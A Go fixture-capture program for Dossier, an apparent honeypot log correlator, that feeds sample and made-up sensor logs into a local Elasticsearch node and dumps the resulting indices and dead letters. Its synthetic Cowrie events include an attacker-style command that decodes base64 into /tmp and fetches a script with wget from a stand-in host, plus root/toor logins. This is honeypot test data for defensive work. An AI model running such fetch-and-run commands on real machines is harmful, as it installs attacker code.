//go:build ignore

// Capture writes this folder: what Dossier leaves in Elasticsearch and in its
// dead letters, as the commit it is built from writes it. See README.md.
//
//	go run ./testbed/data/schema-1/capture.go -commit $(git rev-parse HEAD) -out testbed/data/schema-1
package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"dossier/correlate"
	"dossier/correlate/commit"
	"dossier/correlate/redact"
	"dossier/esindex"
	"dossier/esindex/deadletter"
	"dossier/operate"
	"dossier/plugin/chunk/chunktest"
	"dossier/plugin/options"
	"dossier/plugin/output"
	"dossier/target"
	"dossier/testbed/esnode"
)

// recordTime is the time Fluent Bit gives the records: after every line's own.
var recordTime = time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)

// poisoned are the attackers whose documents Elasticsearch refuses while the
// proxy stands between, by the ends of their ids.
var poisoned = map[string]bool{}

const (
	rich    = "203.0.113.200" // has something in every field of the state
	crowd   = "203.0.113.201" // aims at more mail domains than get documents
	refused = "203.0.113.202" // his documents are refused
)

func main() {
	out := flag.String("out", "", "the folder to write")
	commitID := flag.String("commit", "", "the commit this is built from")
	flag.Parse()
	log.SetFlags(0)
	if *out == "" || *commitID == "" {
		log.Fatal("-out and -commit are missing")
	}
	ctx := context.Background()
	node, err := esnode.Start(ctx, esnode.Options{Name: "capture", Password: "captured-and-gone"})
	check(err)
	defer node.Close()
	c := &capture{ctx: ctx, node: node, out: *out}
	c.proxy()
	c.letters, err = os.MkdirTemp("", "capture-")
	check(err)
	defer os.RemoveAll(c.letters)

	c.setUp("dossier", 128)
	c.setUp("dossier6", 64)
	c.sensors()
	c.made()
	c.network()
	c.refusals()
	c.broken()
	c.dump(*commitID)
}

func check(err error) {
	if err != nil {
		panic(err)
	}
}

type capture struct {
	ctx     context.Context
	node    *esnode.Node
	url     string // of the proxy
	out     string
	letters string
	targets target.Pool
	n       int // chunks so far
}

// proxy puts itself between the plugin and the node, and makes the documents
// of poisoned such as the node refuses.
func (c *capture) proxy() {
	u, err := url.Parse(c.node.URL)
	check(err)
	p := httputil.NewSingleHostReverseProxy(u)
	c.url = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/_bulk") && len(poisoned) > 0 {
			b, err := io.ReadAll(r.Body)
			check(err)
			b = poison(b)
			r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(b)), int64(len(b))
			r.Header.Set("Content-Length", fmt.Sprint(len(b)))
		}
		p.ServeHTTP(w, r)
	})).URL
}

func poison(bulk []byte) []byte {
	lines := bytes.Split(bulk, []byte("\n"))
	for i := 0; i+1 < len(lines); i += 2 {
		var action map[string]struct {
			ID string `json:"_id"`
		}
		check(json.Unmarshal(lines[i], &action))
		for _, a := range action {
			address, _, _ := strings.Cut(a.ID, "|")
			if poisoned[address] && len(lines[i+1]) > 2 {
				lines[i+1] = append([]byte(`{"schema_version":"no number",`), lines[i+1][1:]...)
			}
		}
	}
	return bytes.Join(lines, []byte("\n"))
}

func (c *capture) options(prefix string, more map[string]string) options.Options {
	p := map[string]string{
		"es_hosts": c.url, "es_user": c.node.User, "es_password": c.node.Password, "es_compress": "off",
		"index_prefix": prefix, "sensor_id": "sensor-1", "dead_letter_path": filepath.Join(c.letters, "live"),
		"unparsed_dead_letters": "on",
	}
	if prefix == "dossier6" {
		p["ipv6_prefix"] = "64"
	}
	maps.Copy(p, more)
	o, err := options.Parse(func(k string) string { return p[k] }, func(s string) { log.Print("warning: ", s) })
	check(err)
	return o
}

func (c *capture) setUp(prefix string, ipv6 int) {
	t, err := operate.Open(c.options(prefix, nil), "schema-1")
	check(err)
	defer t.Close()
	check(t.Setup(c.ctx, operate.Setup{Roles: "on"}, func(s esindex.Step) { log.Print(s) }))
}

func (c *capture) open(o options.Options) *output.Output {
	i, err := output.New(o, output.Host{
		Version: "schema-1", Targets: &c.targets,
		Logger: slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn})),
	})
	check(err)
	return i
}

func (c *capture) flush(i *output.Output, tag string, data []byte, want output.Code) {
	deadline := time.Now().Add(time.Minute)
	for {
		code := i.Flush(tag, data, true)
		if code == want {
			return
		}
		if time.Now().After(deadline) || code != output.Retry {
			log.Panicf("%s: %v", tag, code)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// lines flushes lines of a log, as tail hands them over.
func (c *capture) lines(i *output.Output, want output.Code, lines ...string) {
	c.n++
	c.flush(i, fmt.Sprint("chunk.", c.n), chunktest.Lines(recordTime, "log", lines...), want)
}

// sensors are what real sensors wrote.
func (c *capture) sensors() {
	const nets = "10.99.0.2/32,10.99.0.10/32,fd00:99::2/128"
	field := func(name string) map[string]string {
		return map[string]string{"field_map": absolute("conf/field_maps/" + name + ".yaml")}
	}
	for n, s := range []struct {
		file  string
		parts int
		http  bool
		more  map[string]string
	}{
		{"decnet/raw_2k.log", 6, false, nil},
		{"cowrie/cowrie.json", 2, false, nil},
		{"cowrie/cowrie-proxy.json", 1, false, nil},
		{"opencanary/opencanary.log", 2, false, nil},
		{"suricata/eve.json", 2, false, map[string]string{"decoy_nets": nets, "decoy_names": "10.99.0.2=decoy-net-01"}},
		{"syslog/rsyslog-5424.log", 1, false, nil},
		{"ecs/ecs.json", 1, true, nil},
		{"dionaea/log_incident.json", 1, false, field("dionaea")},
		{"heralding/log_session.json", 1, false, field("heralding")},
		{"beelzebub/beelzebub.json", 1, false, field("beelzebub")},
		{"tpot/others.json", 1, true, nil},
	} {
		b, err := os.ReadFile("testbed/data/" + s.file)
		check(err)
		lines := slices.Collect(strings.Lines(strings.TrimSpace(string(b))))
		if s.more == nil {
			s.more = map[string]string{}
		}
		for part := range s.parts {
			s.more["sensor_id"] = fmt.Sprint("sensor-", (n+part)%3+1)
			i := c.open(c.options("dossier", s.more))
			var chunk chunktest.Builder
			for _, line := range lines[part*len(lines)/s.parts : (part+1)*len(lines)/s.parts] {
				if line = strings.TrimRight(line, "\n"); !s.http {
					chunk.Event(recordTime, chunktest.Map{"log", line})
					continue
				}
				var record map[string]any
				check(json.Unmarshal([]byte(line), &record))
				chunk.Event(recordTime, record)
			}
			c.flush(i, fmt.Sprint(s.file, ".", part), chunk.Bytes(), output.OK)
			i.Close()
		}
	}
}

func absolute(path string) string {
	p, err := filepath.Abs(path)
	check(err)
	return p
}

// at is the time of the n-th made up event.
func at(n int) string {
	return recordTime.Add(-30*24*time.Hour + time.Duration(n)*7*time.Minute).Format("2006-01-02T15:04:05.000000-07:00")
}

func decnet(n int, decky, app, kind, params string) string {
	return fmt.Sprintf("<134>1 %s %s %s - %s [relay@55555 %s]", at(n), decky, app, kind, params)
}

func cowrie(n int, address, kind, rest string) string {
	t := recordTime.Add(-30*24*time.Hour + time.Duration(n)*7*time.Minute).UTC().Format("2006-01-02T15:04:05.000000Z")
	return fmt.Sprintf(`{"eventid":"cowrie.%s","src_ip":"%s","sensor":"decoy-ssh-%02d","session":"%012x","protocol":"ssh","timestamp":"%s",%s}`, kind, address, n%5, n/9, t, rest)
}

// made are made up lines, for what the samples have not: an attacker with
// something of everything and lists that are cut off, one with thousands of
// mail domains, bad clocks.
func (c *capture) made() {
	i := c.open(c.options("dossier", map[string]string{"sensor_id": "sensor-2"}))
	var all []string
	n := 0
	add := func(f func(int) string) { all, n = append(all, f(n)), n+1 }
	for k := range 260 {
		add(func(n int) string {
			return cowrie(n, rich, "session.connect", `"src_port":40000,"dst_ip":"10.0.0.5","dst_port":22`)
		})
		add(func(n int) string {
			return cowrie(n, rich, "login.failed", fmt.Sprintf(`"username":"user-%d","password":"secret \"%d\" ü"`, k%90, k))
		})
		add(func(n int) string { return cowrie(n, rich, "login.success", `"username":"root","password":"toor"`) })
		add(func(n int) string {
			return cowrie(n, rich, "command.input", fmt.Sprintf(`"input":"echo %d %s | base64 -d > /tmp/.x%d; wget http://198.51.100.7/x%d.sh"`, k, strings.Repeat("long ", k%40), k, k))
		})
		add(func(n int) string {
			return cowrie(n, rich, "session.file_download", fmt.Sprintf(`"shasum":"%064x","url":"http://198.51.100.7/x%d.sh","destfile":"/tmp/.x%d"`, k+1, k, k))
		})
		add(func(n int) string {
			return cowrie(n, rich, "client.kex", `"hassh":"92674389fa1e47a27ddd8d9b63ecd42b","hasshAlgorithms":"a;b;c","kexAlgs":["curve25519-sha256","diffie-hellman-group14-sha1"]`)
		})
		add(func(n int) string { return cowrie(n, rich, "session.closed", `"duration":"41.5"`) })
	}
	for k := range 40 {
		decky := fmt.Sprintf("decky-%02d", k%7)
		add(func(n int) string {
			return decnet(n, decky, "sniffer", "tcp_syn_fingerprint", fmt.Sprintf(`src_ip="%s" src_port="4000" dst_ip="10.0.0.5" dst_port="443" ttl="%d" initial_ttl="64" hop_distance="%d" window="64240" mss="1400" wscale="7" options_sig="M,S,T,N,W" has_sack="true" has_timestamps="true" os_guess="linux" ipid_class="incremental" isn_class="random"`, rich, 50+k%4, 14-k%4))
		})
		add(func(n int) string {
			return decnet(n, decky, "sniffer", "tcp_flow_timing", fmt.Sprintf(`src_ip="%s" src_port="4000" dst_ip="10.0.0.5" dst_port="443" packets="40" bytes="2000000" duration_s="3.2" mean_iat_ms="12.0" min_iat_ms="0.1" max_iat_ms="99.0" retransmits="2"`, rich))
		})
		add(func(n int) string {
			return decnet(n, decky, "https", "request", fmt.Sprintf(`method="POST" path="/admin" remote_addr="%s" headers="{'Host': '10.0.0.13', 'User-Agent': 'nuclei', 'X-Forwarded-For': '192.0.2.%d'}" body="x=1"`, rich, k))
		})
		add(func(n int) string {
			return decnet(n, decky, "smtp", "message_accepted", fmt.Sprintf(`src="%s" mail_from="<a@evil.example>" rcpt_to="<a@one-%d.globex.io>,<b@two.globex.io>" body_bytes="3000000" truncated="0" msg_id="%d"`, rich, k%6, k))
		})
		add(func(n int) string {
			return decnet(n, decky, "smtp", "rcpt_denied", fmt.Sprintf(`src="%s" value="<someone@two.globex.io>"`, rich))
		})
		add(func(n int) string {
			return decnet(n, "decnet-prober", "prober", "tcpfp_fingerprint", fmt.Sprintf(`target_ip="%s" target_port="443" tcpfp_hash="aa" tcpfp_raw="x" ttl="52" window_size="64240" df_bit="1" mss="1460" window_scale="7" sack_ok="1" timestamp="1" options_order="M,S,T,N,W" tos="0" dscp="0" ecn="0" server_isn="123"`, rich))
		})
		add(func(n int) string {
			return decnet(n, decky, "sessrec", "session_recorded", fmt.Sprintf(`sid="%032x" service="ssh" src_ip="%s" duration_s="732.888" bytes="3000000" truncated="false"`, k, rich))
		})
	}
	eve := recordTime.Add(-24 * time.Hour).Format("2006-01-02T15:04:05.000000-0700")
	all = append(all, fmt.Sprintf(`{"timestamp":"%s","flow_id":1,"event_type":"alert","src_ip":"%s","src_port":41000,"dest_ip":"10.0.0.5","dest_port":80,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2,"rev":1,"signature":"Decoy touched","category":"Misc Attack","severity":1},"flow":{"src_ip":"%s","dest_ip":"10.0.0.5"}}`, eve, rich, rich))
	for part := range 5 {
		c.lines(i, output.OK, all[part*len(all)/5:(part+1)*len(all)/5]...)
	}
	// In two chunks: the second crosses the bound.
	for part := range 2 {
		var lines []string
		for k := range 1100 {
			lines = append(lines, decnet(k/50, "decky-01", "smtp", "rcpt_to", fmt.Sprintf(`src="%s" value="<someone@d%04d.globex.io>"`, crowd, part*1100+k)))
		}
		c.lines(i, output.OK, lines...)
	}
	// Clocks that are wrong.
	c.lines(i, output.OK,
		`<134>1 1999-01-01T00:00:00.000000+00:00 decky-01 ssh - connect [relay@55555 src_ip="203.0.113.204"]`,
		`<134>1 2031-01-01T00:00:00.000000+00:00 decky-01 ssh - connect [relay@55555 src_ip="203.0.113.204"]`)
	var old chunktest.Builder
	old.Event(time.Date(1980, 1, 1, 0, 0, 0, 0, time.UTC), chunktest.Map{"log", `<134>1 1980-01-01T00:00:00.000000+00:00 decky-01 ssh - connect [relay@55555 src_ip="203.0.113.204"]`})
	c.flush(i, "old", old.Bytes(), output.OK)
	// Another sensor's hand in the same documents.
	other := c.open(c.options("dossier", map[string]string{"sensor_id": "sensor-3"}))
	c.lines(other, output.OK, decnet(9000, "decky-09", "ssh", "connect", `src_ip="`+rich+`"`), decnet(9001, "decky-09", "ssh", "connect", `src_ip="`+refused+`"`))
	other.Close()
	i.Close()
}

// network is an IPv6 network taken together, and a single IPv6 address.
func (c *capture) network() {
	var lines []string
	for k := range 50 {
		lines = append(lines, cowrie(k, fmt.Sprintf("2001:db8:1:2::%x", k+1), "login.failed", fmt.Sprintf(`"username":"root","password":"%d"`, k)))
		lines = append(lines, cowrie(k, "2001:db8:5::1", "command.input", `"input":"uname -a"`))
		lines = append(lines, decnet(k, "decky-01", "smtp", "rcpt_to", fmt.Sprintf(`src="2001:db8:1:2::%x" value="<a@six.globex.io>"`, k+1)))
	}
	for _, prefix := range []string{"dossier6", "dossier"} {
		i := c.open(c.options(prefix, nil))
		c.lines(i, output.OK, lines[:90]...)
		c.lines(i, output.OK, lines[90:]...)
		i.Close()
	}
}

// refusals are documents that Elasticsearch refuses: their chunks' markers
// except them.
func (c *capture) refusals() {
	i := c.open(c.options("dossier", map[string]string{"sensor_id": "sensor-2"}))
	defer i.Close()
	poisoned[refused] = true
	c.lines(i, output.OK,
		cowrie(0, refused, "login.success", `"username":"root","password":"toor"`),
		cowrie(1, refused, "command.input", `"input":"uname -a"`),
		decnet(2, "decky-03", "smtp", "rcpt_to", `src="`+refused+`" value="<someone@refused.globex.io>"`),
		decnet(3, "decky-03", "ssh", "connect", `src_ip="203.0.113.205"`))
	c.lines(i, output.OK,
		cowrie(200, refused, "session.file_download", fmt.Sprintf(`"shasum":"%064x","url":"http://198.51.100.7/y.sh","destfile":"/tmp/y"`, 77)))
	delete(poisoned, refused)
}

// broken are chunks that can't be decoded, or not to their end, records that
// no dialect knows, and a chunk that made the code panic.
func (c *capture) broken() {
	i := c.open(c.options("dossier", nil))
	c.flush(i, "broken.whole", bytes.Repeat([]byte{0xc1, 'x', '@'}, 100), output.Error)
	whole := chunktest.Lines(recordTime, "log", decnet(10, "decky-03", "ssh", "connect", `src_ip="203.0.113.205"`))
	c.flush(i, "broken.end", append(bytes.Clone(whole), 0xc1, 0xc1), output.OK)
	c.lines(i, output.OK, "what is this?", decnet(11, "decky-03", "ssh", "connect", `src_ip="203.0.113.205"`))
	// More than one piece; it packs well.
	c.flush(i, "broken.long", append([]byte{0xc1}, bytes.Repeat([]byte("a long one "), 30000)...), output.Error)
	log.Print("waiting for a heartbeat that has figures")
	time.Sleep(target.Beat + 5*time.Second)
	i.Close()
	box, err := deadletter.Open(deadletter.Options{Path: filepath.Join(c.letters, "live"), Encode: correlate.EncodeDelta})
	check(err)
	// As output.Output does after the third panic.
	data := chunktest.Lines(recordTime, "log", decnet(12, "decky-03", "smtp", "rcpt_to", `src="203.0.113.205" value="<someone@panic.globex.io>"`))
	var id commit.ChunkID = correlate.ID("panicked", data)
	check(box.BuryBroken(c.ctx, deadletter.Broken{Chunk: id, Tag: "panicked", Data: redact.Options{}.Records(data), Reason: "panic"}))
}

func (c *capture) do(method, path string, body any) map[string]any {
	code, answer, err := c.node.Do(c.ctx, method, path, body)
	check(err)
	if code >= 300 {
		log.Panicf("%s %s: HTTP %d %s", method, path, code, answer)
	}
	return answer
}

// search returns the answer as the bytes it came in.
func (c *capture) search(index string, query any) []byte {
	b, err := json.Marshal(query)
	check(err)
	r, err := http.NewRequestWithContext(c.ctx, "POST", c.node.URL+"/"+index+"/_search", bytes.NewReader(b))
	check(err)
	r.Header.Set("Content-Type", "application/json")
	r.SetBasicAuth(c.node.User, c.node.Password)
	answer, err := c.node.Client().Do(r)
	check(err)
	defer answer.Body.Close()
	b, err = io.ReadAll(answer.Body)
	check(err)
	if answer.StatusCode != 200 {
		log.Panicf("%s: HTTP %d %s", index, answer.StatusCode, b)
	}
	return b
}

func (c *capture) get(path string) map[string]any { return c.do("GET", path, nil) }
func (c *capture) write(name string, v any)       { c.file(name, func(w io.Writer) { encode(w, v, "  ") }) }

func (c *capture) file(name string, f func(w io.Writer)) {
	path := filepath.Join(c.out, name)
	check(os.MkdirAll(filepath.Dir(path), 0o755))
	file, err := os.Create(path)
	check(err)
	f(file)
	check(file.Close())
}

func encode(w io.Writer, v any, indent string) {
	e := json.NewEncoder(w)
	e.SetEscapeHTML(false)
	e.SetIndent("", indent)
	check(e.Encode(v))
}

// dump writes everything down.
func (c *capture) dump(commitID string) {
	c.do("POST", "/dossier*/_refresh", nil)
	c.write("index-templates.json", c.get("/_index_template/dossier*")["index_templates"])
	c.write("component-templates.json", c.get("/_component_template/dossier*")["component_templates"])
	indices := c.get("/dossier*")
	for _, i := range indices {
		// What belongs to this one index of this one node.
		s := i.(map[string]any)["settings"].(map[string]any)["index"].(map[string]any)
		for _, k := range []string{"creation_date", "uuid", "version", "provided_name", "routing"} {
			delete(s, k)
		}
	}
	c.write("indices.json", indices)
	roles := c.get("/_security/role")
	for name := range roles {
		if !strings.HasPrefix(name, "dossier") {
			delete(roles, name)
		}
	}
	c.write("roles.json", roles)
	total := 0
	c.file("documents.jsonl.gz", func(w io.Writer) {
		z, err := gzip.NewWriterLevel(w, gzip.BestCompression)
		check(err)
		for _, index := range slices.Sorted(maps.Keys(indices)) {
			var after any
			for {
				query := map[string]any{"size": 500, "sort": []any{map[string]any{"_seq_no": "asc"}}}
				if after != nil {
					query["search_after"] = after
				}
				var found struct {
					Hits struct {
						Hits []struct {
							Index  string          `json:"_index"`
							ID     string          `json:"_id"`
							Source json.RawMessage `json:"_source"`
							Sort   any             `json:"sort"`
						}
					}
				}
				check(json.Unmarshal(c.search(index, query), &found))
				if len(found.Hits.Hits) == 0 {
					break
				}
				for _, h := range found.Hits.Hits {
					after, total = h.Sort, total+1
					encode(z, map[string]any{"_index": h.Index, "_id": h.ID, "_source": h.Source}, "")
				}
			}
		}
		check(z.Close())
	})
	files, err := filepath.Glob(filepath.Join(c.letters, "live", "*"))
	check(err)
	letters := 0
	c.file("dead-letters.jsonl.gz", func(w io.Writer) {
		z, err := gzip.NewWriterLevel(w, gzip.BestCompression)
		check(err)
		slices.Sort(files)
		for _, f := range files {
			b, err := os.ReadFile(f)
			check(err)
			_, err = z.Write(b)
			check(err)
			s := bufio.NewScanner(bytes.NewReader(b))
			s.Buffer(nil, 8<<20)
			for s.Scan() {
				letters++
			}
		}
		check(z.Close())
	})
	version := c.get("/")["version"].(map[string]any)["number"]
	c.write("captured.json", map[string]any{"commit": commitID, "schema": 1, "elasticsearch": version, "documents": total, "dead_letters": letters})
	log.Printf("%d documents in %d indices, %d dead letters", total, len(indices), letters)
}
